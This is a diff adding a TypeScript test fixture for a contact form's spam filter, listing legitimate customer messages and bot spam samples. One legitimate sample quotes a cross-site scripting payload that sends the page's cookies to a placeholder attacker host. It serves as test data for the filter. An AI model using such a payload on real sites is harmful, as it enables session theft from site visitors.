@@ -1,0 +1,169 @@
+import type { MessageInput } from '../../src/api/contract.ts';
+
+/** A message as somebody sends it; a test says how with a token that is so old, a forged one, or a plain form. */
+export type SentMessage = Partial<MessageInput> & {
+  trap?: string;
+  token?: number | 'forged';
+  isForm?: boolean;
+};
+
+const day = 24 * 60 * 60 * 1000;
+const sender = { name: 'Zoë Müller', email: 'zoe@mueller.example' };
+
+/** What people write and how they send it, each under what is special about it. None of these may be put aside. */
+export const honestMessages: Record<string, SentMessage> = {
+  'a line': { ...sender, message: 'Please call me about an audit, +44 20 7946 0018.', token: 40_000 },
+  'a name alone': { name: 'Zoë' },
+  'an address alone': { email: 'zoe@mueller.example', token: 9000 },
+  'a service alone': { service: 'audit', isForm: true },
+  'no script': { ...sender, message: 'We were hacked last night.\r\nPlease help.', isForm: true },
+  'no token': { ...sender, message: 'Our shop was defaced this morning, who can look at it today?' },
+  'a token of yesterday': { ...sender, message: 'I left this page open overnight.', token: day + 60_000 },
+  'a token that is not ours': { ...sender, message: 'My proxy changes headers.', token: 'forged' },
+  'a slow typist': { ...sender, message: 'It took me all morning to write this.', token: 5 * 60 * 60 * 1000 },
+  'pasted at once': { ...sender, message: 'Do you test mobile apps? We have two of them.', token: 700 },
+  'a screen reader that named the field': { ...sender, message: 'Is the report readable?', trap: 'empty' },
+  'a name in the trap': { ...sender, message: 'I need a quote.', trap: 'Zoë Müller', token: 1200 },
+  'an address in the trap': { ...sender, message: 'I need a quote.', trap: sender.email, token: 1200 },
+  'a number in the trap': { ...sender, message: 'I need a quote.', trap: '+442079460018', isForm: true },
+  'a company in the trap': { ...sender, message: 'I need a quote.', trap: 'Müller & Söhne GmbH', token: 800 },
+  'a postal address in the trap': {
+    ...sender,
+    message: 'Where is your office?',
+    trap: 'Flat 12, Wellington House, 123 Long Meadow Road, Newcastle upon Tyne, NE1 4ST',
+    isForm: true,
+  },
+  'a list of domains': {
+    ...sender,
+    message: 'Audit: mueller.example, shop.mueller.example, mail.mueller.example, vpn.mueller.example',
+    token: 60_000,
+  },
+  'a pasted list of addresses': {
+    ...sender,
+    message: 'https://mueller.example/login\nhttps://mueller.example/admin\nhttps://mueller.example/api/v1',
+    token: 900,
+  },
+  'a list of domains, with a name in the trap': {
+    ...sender,
+    message: 'Audit: mueller.example, shop.mueller.example, mail.mueller.example, vpn.mueller.example',
+    trap: 'Zoë Müller',
+    token: 30_000,
+  },
+  'a sample of an attack': {
+    ...sender,
+    message: 'Found in our guest book: <script>fetch("https://evil.example/?c="+document.cookie)</script>',
+    token: 1500,
+  },
+  'a list of links with a sample of markup, pasted': {
+    ...sender,
+    message: '<a href="https://evil.example/1">x</a> https://evil.example/2 https://evil.example/3',
+    token: 300,
+  },
+  'a sample of forum spam that they got': {
+    ...sender,
+    message: 'Our form gets these every hour, can you stop it? [url=https://pills.example]cheap[/url]',
+    isForm: true,
+  },
+  'a signature with a link': {
+    ...sender,
+    message: 'When could you start?\n\n--\nZoë Müller\nMüller & Söhne\nhttps://www.mueller.example',
+    token: 50_000,
+  },
+  'a signature with many': {
+    ...sender,
+    message:
+      'We are looking for a partner for yearly penetration tests of three sites and an office network. Could you send us ' +
+      'your conditions and references?\n\nwww.mueller.example | linkedin.example/zoe | https://github.example/zoe',
+    token: 50_000,
+  },
+  'a long text': {
+    ...sender,
+    message: 'A long story, told in full and with care. '.repeat(700),
+    token: 90_000,
+  },
+  'a log with addresses': {
+    ...sender,
+    message: Array.from(
+      { length: 40 },
+      (_, index) => `10.0.0.${index} GET https://mueller.example/${index} 404`,
+    ).join('\n'),
+    token: 4000,
+  },
+  Chinese: {
+    ...sender,
+    message: '您好，我们的网站 www.mueller.example 昨晚被攻击了，请尽快联系我们。',
+    token: 20_000,
+  },
+  Arabic: {
+    ...sender,
+    message: 'مرحبا، نحتاج إلى اختبار اختراق لموقعنا في أقرب وقت ممكن، شكرا لكم.',
+    isForm: true,
+  },
+  Russian: {
+    ...sender,
+    message: 'Здравствуйте! Сколько стоит аудит сети на сорок рабочих мест?',
+    token: 15_000,
+  },
+  Hindi: { ...sender, message: 'नमस्ते, क्या आप हमारी वेबसाइट की सुरक्षा जाँच कर सकते हैं?' },
+  'signs alone': { ...sender, message: '👍👍👍 ???', token: 5000 },
+  capitals: { ...sender, message: 'PLEASE CALL ME BACK TODAY, IT IS URGENT!!!', token: 5000 },
+  'words that others use for spam': {
+    ...sender,
+    message:
+      'We sell pharmacy supplies and casino software; Viagra offers were posted under our name. Free bitcoin, too.',
+    token: 30_000,
+  },
+};
+
+const links = 'https://slots-1.example/win https://slots-2.example/win https://slots-3.example/win';
+
+/** What robots send, each under how they do it. Each is put aside as it stands. */
+export const spamMessages: Record<string, SentMessage> = {
+  'a link in every field': {
+    name: 'https://pills.example',
+    message: 'https://pills.example',
+    trap: 'https://pills.example',
+  },
+  'a form filled in by a parser': {
+    name: 'CharlesTrord',
+    email: 'charles@mail.example',
+    message: `Best slots [url=https://slots.example/1]here[/url] ${links}`,
+    trap: 'google',
+    isForm: true,
+  },
+  'anchors for a guest book': {
+    name: 'Eugenia',
+    message: `<a href="https://slots.example">slots</a> ${links}`,
+    trap: '83127744612',
+    isForm: true,
+  },
+  'the message in every field': {
+    message: 'Earn money at home, ask me how',
+    trap: 'Earn money at home, ask me how',
+  },
+  'an essay in the trap': {
+    name: 'Ivan',
+    message: 'Hello',
+    trap: 'Dear owner of this site, I have an offer. '.repeat(4),
+  },
+  'a bare link in the trap': { message: 'Great post, thanks for sharing', trap: 'www.pills.example' },
+  'markup in the trap': { message: 'Nice', trap: '[url=//pills.example]x[/url]', isForm: true },
+  'a browser by remote control, with links': { message: links, trap: 'WqXvTnBz', token: 350 },
+  'a browser by remote control, with markup': {
+    message: 'Cheap followers <a href="https://follow.example">now</a>',
+    trap: 'WqXvTnBz',
+    token: 20,
+  },
+  'links in the name': { name: links, message: '[link=https://slots.example]go[/link]', trap: 'John' },
+  'a link in the trap, sent with patience': {
+    message: 'I love it',
+    trap: 'http://pills.example/?id=7',
+    token: 60_000,
+  },
+  'a foreign shop': {
+    message: `Лучшие казино <a href='https://slots.example'>тут</a> ${links}`,
+    trap: 'Иван',
+    isForm: true,
+  },
+  'anchors without words': { message: `<A HREF="https://slots.example/x">${links}</A>`, trap: 'x' },
+};
